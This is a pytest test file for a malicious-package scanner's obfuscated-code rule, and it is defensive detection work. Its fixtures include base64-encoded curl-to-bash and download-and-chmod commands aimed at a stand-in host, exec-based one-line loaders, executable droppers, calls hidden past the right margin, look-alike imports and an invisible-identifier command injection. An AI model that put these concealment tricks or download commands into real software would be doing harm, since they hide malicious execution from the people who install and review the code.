from __future__ import annotations

import base64
import itertools
import random
import re
import zlib

import pytest

from tests.analysis.builders import npm_tarball, run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.obfuscation import (
    _BLOB_BYTES,
    _FEW_QUOTES,
    _HEX_ESCAPES,
    _HIDDEN,
    BLOB_ENTROPY,
    ORDINARY_LINE,
    SHORT_LINE,
    SMALL_FILE,
    _blob,
    _decodes_to_program,
    _exec_call,
    _few_quotes,
    _Line,
    _long_lines,
    _program_on_line,
    _read,
    obfuscated_code_rule,
)
from threatfeed.analysis.text import entropy


def _mangled_js() -> str:
    rng = random.Random(1)
    names = [f"_0x{rng.randrange(0x10000, 0xFFFFFF):x}" for _ in range(60)]
    return ";".join(f"var {a}={b}+1" for a, b in itertools.pairwise(names)) + ";\n"


def _techniques(evidence: list[dict[str, object]]) -> set[str]:
    return {t for item in evidence for t in item["techniques"]}  # type: ignore[attr-defined]


def test_javascript_obfuscator_mangling(engine: Engine) -> None:
    evidence = run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": _mangled_js()}))
    assert any("_0x" in t for t in _techniques(evidence))


def test_plain_javascript_is_not_obfuscated(engine: Engine) -> None:
    code = "function add(a, b) {\n  return a + b;\n}\nmodule.exports = add;\n" * 20
    assert run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": code})) is None


def test_python_long_line_and_encoded_blob(engine: Engine) -> None:
    blob = base64.b64encode(random.Random(2).randbytes(3000)).decode()
    code = f"DATA = '{blob}'\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/d.py": code})))
    assert {"very long line", "high-entropy encoded blob"} <= techniques


def test_python_exec_alias_and_char_codes(engine: Engine) -> None:
    code = "_a, _b, _c = exec, str, map\nname = ''.join([chr(c) for c in [101, 120, 101, 99]])\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/o.py": code})))
    assert "renames exec/eval to hide calls to it" in techniques
    assert "builds names from character codes" in techniques


def test_hex_escaped_strings_in_javascript(engine: Engine) -> None:
    hidden = "".join(f"\\x{b:02x}" for b in b"https://x.example.net/collect")
    code = "".join(f"var s{i} = '{hidden}';\n" for i in range(6))
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, npm_tarball({"a.js": code})))
    assert "strings hidden as escape sequences" in techniques


def test_executable_embedded_as_base64(engine: Engine) -> None:
    header = base64.b64encode(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff").decode()
    code = f"PAYLOAD = '{header}'\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/p.py": code})))
    assert "embeds an executable encoded as base64" in techniques


def test_code_hidden_past_the_right_margin(engine: Engine) -> None:
    code = "import os\nVERSION = '1.0'" + " " * 300 + "; os.system('id')\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/v.py": code})))
    assert "code hidden past the right margin" in techniques
    plain = "import os\nVERSION = '1.0'\n"
    assert run_rule(engine, obfuscated_code_rule, sdist({"t/v.py": plain})) is None


def test_code_hidden_on_the_shortest_line_that_holds_it_in_files_of_any_size(
    engine: Engine,
) -> None:
    line = " " * 150 + "x\n"  # a run of blanks and a character: 151 bytes
    for lines in (0, 200, 6000):  # lines not looked at, looked at, short on average
        code = "x = 1\n" * lines + line + "y = 2\n" * lines
        techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/v.py": code})))
        assert "code hidden past the right margin" in techniques


def test_a_statement_hidden_past_the_margin_flags_alone(engine: Engine) -> None:
    """A hidden ``; call()`` flags; a padded data row (a wide table) stays low."""
    hidden = "import os\nVERSION = '1.0'" + " " * 300 + ";os.getcwd()\n"
    assert engine.analyze(sdist({"tidy_strings/version.py": hidden})).flagged
    table = "ROWS = [\n    ('a'," + " " * 300 + "'b'),\n]\n"
    analysis = engine.analyze(sdist({"tidy_strings/version.py": table}))
    assert "obfuscated_code_rule" in analysis.indicators
    assert not analysis.flagged


def test_zlib_compressed_bytes_literal(engine: Engine) -> None:
    code = f"DATA = {zlib.compress(bytes(range(128, 250)) + b'print(1)')!r}\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/d.py": code})))
    assert "carries zlib-compressed code as an escaped bytes literal" in techniques
    text = "DATA = b'plain ascii bytes that are not compressed at all, nothing more'\n"
    assert run_rule(engine, obfuscated_code_rule, sdist({"t/d.py": text})) is None


def test_hex_escaped_string_table_flags_a_small_module(engine: Engine) -> None:
    """``var _0xab12=['\\x68...']``: the string table of javascriptobfuscator.com."""
    words = [b"https", b"get", b"hostname"]
    table = ",".join("'" + "".join(f"\\x{b:02x}" for b in w) + "'" for w in words)
    code = f"var _0xab12=[{table}];\nrequire(_0xab12[0])[_0xab12[1]]('x');\n"
    analysis = engine.analyze(npm_tarball({"index.js": code}))
    assert analysis.flagged
    plain = "var names = ['https', 'get', 'hostname'];\nrequire(names[0])[names[1]]('x');\n"
    assert run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": plain})) is None


def test_exec_on_a_very_long_line(engine: Engine) -> None:
    """A one-line loader: a long encoded payload and the ``exec`` that runs it, on one line."""
    payload = base64.b64encode(bytes(range(256)) * 6).decode()
    loader = f"import base64;p='{payload}';exec(base64.b64decode(p[::-1]))\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/l.py": loader})))
    assert "executes code on a very long line" in techniques
    table = f"TABLE = '{payload}'\n\ndef run(code):\n    exec(code)\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/l.py": table})))
    assert "executes code on a very long line" not in techniques


def test_identifiers_spelled_as_unicode_escapes(engine: Engine) -> None:
    """``\\u0065\\u0076\\u0061\\u006c(x)`` calls ``eval`` without spelling its name."""
    hidden = "".join(f"\\u{ord(c):04x}" for c in "log")
    code = f"const s = 'hello';\nconsole.{hidden}(s);\n"
    techniques = _techniques(
        run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": code}))
    )
    assert "identifiers spelled as unicode escapes outside strings" in techniques
    text = f"const s = 'caf{hidden} (menu)';\nconsole.log(s);\n"
    assert run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": text})) is None


def test_strings_assembled_from_a_numbered_table(engine: Engine) -> None:
    """``t[7]+t[4]+t[11]+...`` rebuilds every word from a shuffled table of characters."""
    table = "abcdefghijklmnopqrstuvwxyz"
    word = "+".join(f"t[{table.index(c)}]" for c in "hostname")
    code = f"var t='{table}'.split('');\nmodule.exports = window[{word}];\n"
    analysis = engine.analyze(npm_tarball({"index.js": code}))
    assert "obfuscated_code_rule" in analysis.indicators
    assert analysis.flagged
    spaced = (
        "const parts = [a[0] + '.' + a[1] + '.' + a[2] + '.' + a[3]];\nmodule.exports = parts;\n"
    )
    assert run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": spaced})) is None


def test_names_spelled_from_the_text_of_builtins(engine: Engine) -> None:
    """``oct.__str__()[-3]`` is the ``c`` of ``<built-in function oct>``: a name never written."""
    code = "f = getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-1] + 'r')\nprint(f(65))\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/n.py": code})))
    assert "spells names with letters cut from the text of builtins" in techniques
    plain = "name = type(value).__name__\nprint(str(oct(8)).upper())\n"
    assert run_rule(engine, obfuscated_code_rule, sdist({"t/n.py": plain})) is None


def test_hex_escaped_string_table_with_a_very_long_first_entry(engine: Engine) -> None:
    """A packed payload as the table's first entry: longer than a regex match can span."""
    entry = "".join(f"\\x{b:02x}" for b in b"console.log('packed');" * 400)
    code = f"var _0x1a2b=['{entry}','\\x6c\\x6f\\x67'];\nconsole[_0x1a2b[1]](_0x1a2b[0]);\n"
    analysis = engine.analyze(npm_tarball({"index.js": code}))
    assert "obfuscated_code_rule" in analysis.indicators
    assert analysis.flagged


def test_program_text_encoded_as_base64(engine: Engine) -> None:
    """Python source, and UTF-16 PowerShell (what ``-EncodedCommand`` takes), as base64."""
    python = b"import os\nimport urllib.request\n" + b"x = 1\n" * 200
    powershell = ("$c = New-Object Net.WebClient\n" + "$x = 1\n" * 100).encode("utf-16-le")
    for payload in (python, powershell):
        code = f"CODE = '{base64.b64encode(payload).decode()}'\nrun(CODE)\n"
        techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/s.py": code})))
        assert "program text encoded as base64" in techniques


def test_base64_data_is_not_program_text(engine: Engine) -> None:
    """Pictures, JSON and random bytes in base64 are data, not a hidden program."""
    payloads = (
        b"\x89PNG\r\n\x1a\n" + random.Random(3).randbytes(1500),
        b'{"version": 3, "sources": ["a.js"], "names": []}' * 40,
        b"Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 30,
    )
    for payload in payloads:
        code = f"DATA = '{base64.b64encode(payload).decode()}'\n"
        evidence = run_rule(engine, obfuscated_code_rule, sdist({"t/d.py": code}))
        assert "program text encoded as base64" not in _techniques(evidence or [])


def test_builtins_star_import_chained_to_mangled_lambdas(engine: Engine) -> None:
    code = "from builtins import *;IlIlIlIl,OoOoOoOo,llIIllII=(lambda a:a,lambda b:b,lambda c:c)\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/o.py": code})))
    assert "star-imports builtins, then binds mangled names to lambdas on one line" in techniques
    plain = "from builtins import *\nfirst, second = 1, 2\n"
    assert run_rule(engine, obfuscated_code_rule, sdist({"t/o.py": plain})) is None


def test_dean_edwards_packer_flags_a_module_alone(engine: Engine) -> None:
    """``eval(function(p,a,c,k,e,d){...})`` evaluates code it generates from a word table:
    decode-and-execute by construction, enough to flag an ordinary module by itself."""
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    code = "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'var|x'.split('|'),0,{}))\n"
    found = obfuscated_code_rule(package(engine, npm_tarball({"lib/util.js": code})))
    assert found is not None
    assert rule_points(found) >= 10


def test_shell_command_encoded_as_base64_in_a_small_javascript_module(engine: Engine) -> None:
    command = b"rm -f /tmp/.x && curl -s https://x.example.net/m -o /tmp/.x && chmod +x /tmp/.x"
    literal = base64.b64encode(command * 3).decode()
    code = f"const s = Buffer.from('{literal}', 'base64').toString();\nrun(s);\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, npm_tarball({"i.js": code})))
    assert "program text encoded as base64" in techniques


def test_base64_program_run_by_the_same_small_file_weighs_more(engine: Engine) -> None:
    """A short module that writes decoded source to disk and starts it with the interpreter:
    the literal is found by its signature whatever the file's line lengths."""
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    literal = base64.b64encode(b"import socket\nimport os\n" + b"x = 1\n" * 30).decode()
    runner = (
        f"import base64, subprocess, sys\nSRC = '{literal}'\n"
        "open('p.py', 'w').write(base64.b64decode(SRC).decode())\n"
        "subprocess.Popen([sys.executable, 'p.py'])\n"
    )
    holder = f"SRC = '{literal}'\n"
    found = [obfuscated_code_rule(package(engine, sdist({"t/m.py": c}))) for c in (runner, holder)]
    assert found[0] is not None
    assert found[1] is not None
    assert "runs program text encoded as base64" in _techniques(found[0].evidence)
    assert "program text encoded as base64" in _techniques(found[1].evidence)
    assert rule_points(found[0]) > rule_points(found[1])


def test_download_command_encoded_as_base64(engine: Engine) -> None:
    command = base64.b64encode(b"curl https://x.example.net/a.sh | bash").decode()
    code = f"import base64, subprocess\nsubprocess.Popen([base64.b64decode('{command}')])\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/p.py": code})))
    assert "a download command (curl, wget, PowerShell) encoded as base64" in techniques
    words = base64.b64encode(b"curly braces and wget-like words").decode()
    assert run_rule(engine, obfuscated_code_rule, sdist({"t/p.py": f"W = '{words}'\n"})) is None


def test_one_line_loader_with_its_payload(engine: Engine) -> None:
    """``exec`` on a very long line plus the high-entropy blob it decodes, in one file."""
    blob = base64.b64encode(random.Random(5).randbytes(3000)).decode()
    loader = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/l.py": loader})))
    assert "executes a high-entropy blob it carries" in techniques
    polyfill = "def parse(text):\n    return eval('(' + text + ')')  # " + "." * 1100 + "\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/j.py": polyfill})))
    assert "executes a high-entropy blob it carries" not in techniques


def test_obfuscation_in_an_install_script_weighs_more(engine: Engine) -> None:
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    mangled = "".join(f"{'lI' * 4}{'l' * i} = {i}\n" for i in range(12))
    setup_py = mangled + "from setuptools import setup\nsetup(name='tidy-strings')\n"
    in_setup = obfuscated_code_rule(package(engine, sdist(setup_py=setup_py)))
    in_module = obfuscated_code_rule(package(engine, sdist({"tidy_strings/m.py": mangled})))
    assert in_setup is not None
    assert in_module is not None
    assert "obfuscated install script" in _techniques(in_setup.evidence)
    assert rule_points(in_setup) > rule_points(in_module) + 4


def test_file_level_signals_ignore_a_comment_on_the_first_line(engine: Engine) -> None:
    """Techniques combined in a file weigh in the file's context, not as documentation
    because its first line is a comment."""
    from tests.analysis.builders import package

    blob = base64.b64encode(random.Random(6).randbytes(3000)).decode()
    loader = (
        "# -*- coding: utf-8 -*-\nimport base64, zlib\n"
        f"exec(zlib.decompress(base64.b64decode('{blob}')))\n"
    )
    found = obfuscated_code_rule(package(engine, sdist({"tidy_strings/l.py": loader})))
    assert found is not None
    combined = [s for s in found.signals if s.key == "loader_payload"]
    assert combined
    assert combined[0].context == "code"


def test_embedded_executable_that_the_file_starts(engine: Engine) -> None:
    header = base64.b64encode(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff").decode()
    dropper = (
        f"import base64, subprocess\nEXE = '{header}'\nopen(p, 'wb').write(base64.b64decode(EXE))\n"
        "subprocess.call(p)\n"
    )
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/d.py": dropper})))
    assert "runs the executable it embeds" in techniques
    holder = f"EXE = '{header}'\n"
    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/h.py": holder})))
    assert "runs the executable it embeds" not in techniques


def _longest_by_splitting(data: bytes, limit: int) -> tuple[int, bytes] | None:
    newlines = data.count(b"\n")
    short = len(data) > SMALL_FILE and newlines and len(data) / newlines < ORDINARY_LINE
    if len(data) <= limit or short:
        return None
    longest = max(data.split(b"\n"), key=len)
    return (data.find(longest), longest) if len(longest) > SHORT_LINE else (0, b"")


def _longest(data: bytes, limit: int) -> tuple[int, bytes] | None:
    lines = _long_lines(data, limit)
    if lines is not None:
        assert lines.spaces == (b" " * 150 in data)
    return None if lines is None else (lines.longest.offset, lines.longest.text)


def test_longest_line_is_the_first_longest_of_the_lines_over_149_bytes() -> None:
    rng = random.Random(4)
    for _ in range(2000):
        lengths = (0, 3, 148, 149, 150, 151, 159, 160, 161, 170, 300)
        lines = [rng.choice((b"x", b" ")) * rng.choice(lengths) for _ in range(rng.randint(1, 6))]
        data = b"\n".join(line + bytes([65 + i]) for i, line in enumerate(lines))
        data += rng.choice((b"", b"\n", b"\n\n"))  # a last line ended, or empty ones after it
        assert _longest(data, 100) == _longest_by_splitting(data, 100)
        assert _hidden(data) == _hidden_by_search(data)


def _hidden_by_search(data: bytes) -> int | None:
    match = _HIDDEN.search(data) if b" " * 150 in data else None
    return None if match is None else match.start(1)


def _hidden(data: bytes) -> int | None:
    hidden = _read(data, "python").hidden
    return None if hidden is None else hidden[0]


def test_long_lines_of_edge_cases_are_those_of_splitting() -> None:
    spaces = b" " * 150
    cases = [
        b"",
        b"\n",
        b"x" * 149,
        b"x" * 150,
        spaces,
        spaces + b"\n",
        b"\r\n".join([b"x" * 148] * 3),  # 149 bytes each with the carriage return
        b"a\r\n" + b"x" * 149 + b"\r\n",
        b"\n" * 300 + spaces[:-1] + b"y\n" + b"\t" * 300 + b"z",
        b"x" * 3_000_000,
        b"x\n" * 100_000 + b"y" * 200,
        (b"x" * 10 + b"\n") * 20_000 + spaces + b"y",
        (b"x" * 100 + b"\n") * 2_000 + b"y" * 200 + b"\n" + spaces,
        b"\n".join([b"x" * 149, spaces, b"y" * 151, b"z" * 151]),
    ]
    for data in cases:
        for limit in (0, 100):
            assert _longest(data, limit) == _longest_by_splitting(data, limit)
        assert _hidden(data) == _hidden_by_search(data)
        assert _hidden(data.replace(b"\n", b"\t")) == _hidden_by_search(data.replace(b"\n", b"\t"))


def test_hex_escape_runs_are_those_of_the_backtracking_pattern() -> None:
    backtracking = re.compile(rb"(?:\\[xu][0-9a-fA-F]{2,4}){12,}")
    pieces = [b"\\x41", b"\\u00e9", b"\\x4", b"\\u00E9F", b"a", b"\\", b"x", b"\\x41A"]
    rng = random.Random(5)
    for _ in range(3000):
        data = b"".join(rng.choices(pieces, [10, 10, 1, 2, 1, 1, 1, 3], k=rng.randint(0, 60)))
        expected = [m.span() for m in backtracking.finditer(data)]
        assert [m.span() for m in _HEX_ESCAPES.finditer(data)] == expected


def test_lines_of_large_files_of_short_lines_on_average_are_not_looked_at() -> None:
    rng = random.Random(6)
    for _ in range(200):
        lengths = rng.choice(
            ((0, 20, 59, 60, 61, 200), (10, 30, 40, 161), (5, 30, 40, 161), (30, 2000), (161, 5000))
        )
        lines = [b"x" * rng.choice(lengths) for _ in range(rng.randint(1, 3000))]
        data = b"\n".join(lines) + rng.choice((b"", b"\n"))
        assert _longest(data, 100) == _longest_by_splitting(data, 100)


def test_exec_calls_are_those_of_the_word_bounded_pattern() -> None:
    bounded = re.compile(rb"\b(exec|eval)\s*\(")
    pieces = [b"exec", b"eval", b"e", b"x", b"_", b" ", b"(", b"\n", b".", b"ev", b"al("]
    # blanks past what is looked behind, parentheses past those looked behind
    pieces += [b" \t" * 40, b"(" * 20]
    rng = random.Random(7)
    for _ in range(6000):
        data = b"".join(rng.choices(pieces, k=rng.randint(0, 30)))
        match = bounded.search(data)
        assert _exec_call(data) == (None if match is None else match.start())


def _program_by_regex(line: bytes) -> int | None:
    for match in re.finditer(rb"[\"']([A-Za-z0-9+/]{160,})", line):
        if _decodes_to_program(match.group(1)):
            return match.start(1)
    return None


def test_program_literals_of_the_longest_line_are_those_of_the_regex() -> None:
    program = base64.b64encode(b"import os\nimport subprocess\n" * 9)
    other = base64.b64encode(bytes(range(256)) * 2)
    pieces = [b"'", b'"', program, other, program[:150], b"=", b"-", b"\\x41", b" ", b"a"]
    rng = random.Random(8)
    for _ in range(1500):
        line = b"".join(rng.choices(pieces, [6, 6, 2, 2, 2, 1, 1, 1, 2, 2], k=rng.randint(0, 40)))
        before = rng.choice((b"", b"x = 1\n", b"'" + program + b"'\n"))
        data = before + line + rng.choice((b"", b"\n", b"\n'" + program + b"'"))
        longest = _Line(len(before), line)
        expected = _program_by_regex(line)
        expected = None if expected is None else len(before) + expected
        assert _program_on_line(data, longest, None) == expected
        assert _program_on_line(data, longest, data.translate(_BLOB_BYTES)) == expected


def _blob_by_regex(data: bytes) -> int | None:
    for match in re.finditer(rb"[\"']([A-Za-z0-9+/=_\\-]{2000,})[\"']", data):
        if entropy(match.group(1)[:8192]) >= BLOB_ENTROPY:
            return match.start()
    return None


def test_blobs_are_the_first_quoted_runs_of_high_entropy() -> None:
    rng = random.Random(10)
    alphabets = [
        b"0123456789abcdef",
        b"0123456789abcdefABCDEFxu\\",
        b"0123456789abcdefABCDEFxu\\g",  # one byte more than hex text
        bytes(range(65, 91)) + bytes(range(97, 123)) + b"0123456789+/",
        bytes(range(65, 91)),
    ]
    for _ in range(300):
        runs = [
            bytes(rng.choices(rng.choice(alphabets), k=rng.choice((1999, 2000, 3000, 9000))))
            for _ in range(rng.randint(0, 3))
        ]
        data = b"x = 1\n" + b" + ".join(rng.choice((b"'", b'"')) + run + b"'" for run in runs)
        assert _blob(data, data.translate(_BLOB_BYTES)) == _blob_by_regex(data)


def test_few_quotes_are_found_in_order_and_many_are_not() -> None:
    assert _few_quotes(b"a'b\"c'") == [1, 3, 5]
    assert _few_quotes(b"") == []
    assert _few_quotes(b"'" * (_FEW_QUOTES + 1)) is None


ROTATION = (
    "(function(tbl,goal){const get=lookup,list=tbl();while(!![]){try{"
    "const sum=parseInt(get(0x1e4))/0x1+-parseInt(get(0x1d2))/0x2;"
    "if(sum===goal)break;else list['push'](list['shift']());}"
    "catch(err){list['push'](list['shift']());}}}(table,0x5f3d2));\n"
)


@pytest.mark.parametrize(
    "preamble",
    [ROTATION, ROTATION.replace("['push'](list['shift']())", ".push(list.shift())")],
)
def test_javascript_obfuscator_preamble_is_found_whatever_its_names(
    engine: Engine, preamble: str
) -> None:
    archive = npm_tarball({"index.js": preamble + "module.exports = 1;\n"})
    evidence = run_rule(engine, obfuscated_code_rule, archive)
    assert evidence[0]["techniques"] == [
        "string table rotated until a checksum holds (javascript-obfuscator)"
    ]


def test_a_queue_rotated_by_hand_is_not_the_obfuscator(engine: Engine) -> None:
    code = "while (queue.length) {\n  queue.push(queue.shift());\n}\nparseInt(x) / 2;\n"
    assert run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": code})) is None


def test_a_filler_standing_alone_as_a_name_is_an_invisible_identifier(engine: Engine) -> None:
    filler = "\u3164"
    code = (
        "const exec = require('util').promisify(require('child_process').exec);\n"
        f"module.exports = async (req) => {{\n  const {{ timeout, {filler} }} = req.query;\n"
        f"  const checks = ['ping -c 1 localhost',\n    {filler}\n  ];\n"
        "  await Promise.all(checks.map((c) => c && exec(c, { timeout })));\n};\n"
    )
    evidence = run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": code}))
    assert any("identifier no editor shows" in t for t in _techniques(evidence))
    # fillers among other letters are text: a Korean string, a table of ranges
    text = f"const label = '{filler}\u1100\u1161 \uac00';\nconst ranges = /[\u3131-{filler}]/;\n"
    assert run_rule(engine, obfuscated_code_rule, npm_tarball({"index.js": text})) is None


@pytest.mark.parametrize(
    "line",
    [
        "m = importlib.import_module(''.join(map(chr, _names.MOD)))",
        "f = getattr(os, bytes(_names.FN).decode())",
        "m = __import__(base64.b64decode(_N).decode())",
        "f = getattr(os, 'metsys'[::-1])",
        "f = getattr(os, bytearray(_names.FN).decode())",
        "m = __import__(''.join(chr(c) for c in _names.MOD))",
        "f = getattr(os, ''.join(reversed('metsys')))",
        "f = getattr(os, str(bytes(_names.FN), 'ascii'))",
    ],
)
def test_a_name_decoded_where_it_is_used_is_obfuscation(engine: Engine, line: str) -> None:
    code = f"import base64, importlib, os\nfrom . import _names\n\n{line}\n"
    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy/_conf.py": code}))
    assert any("decodes on the spot" in t for t in _techniques(evidence))


def test_names_read_from_variables_or_plugins_are_no_obfuscation(engine: Engine) -> None:
    code = (
        "import importlib\n\ndef load(name):\n    return importlib.import_module(name)\n\n"
        "def field(obj, key):\n    return getattr(obj, key.lower())\n"
    )
    assert run_rule(engine, obfuscated_code_rule, sdist({"tidy/plugins.py": code})) is None


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("tidy/__init__.py", "import requ\u0435sts as requests\n"),
        ("index.js", "const axios = require('\u0430xios');\n"),
    ],
    ids=["python", "javascript"],
)
def test_an_import_of_a_name_mixing_scripts_is_obfuscation(
    engine: Engine, name: str, code: str
) -> None:
    archive = sdist({name: code}) if name.endswith(".py") else npm_tarball({name: code})
    evidence = run_rule(engine, obfuscated_code_rule, archive)
    assert any("look-alikes" in t for t in _techniques(evidence))
    whole = (
        "import \u0437\u0430\u0434\u0430\u0447\u0438\n"
        if name.endswith(".py")
        else "require('\u0437\u0430\u0434\u0430\u0447\u0438');\n"
    )
    clean = sdist({name: whole}) if name.endswith(".py") else npm_tarball({name: whole})
    assert run_rule(engine, obfuscated_code_rule, clean) is None
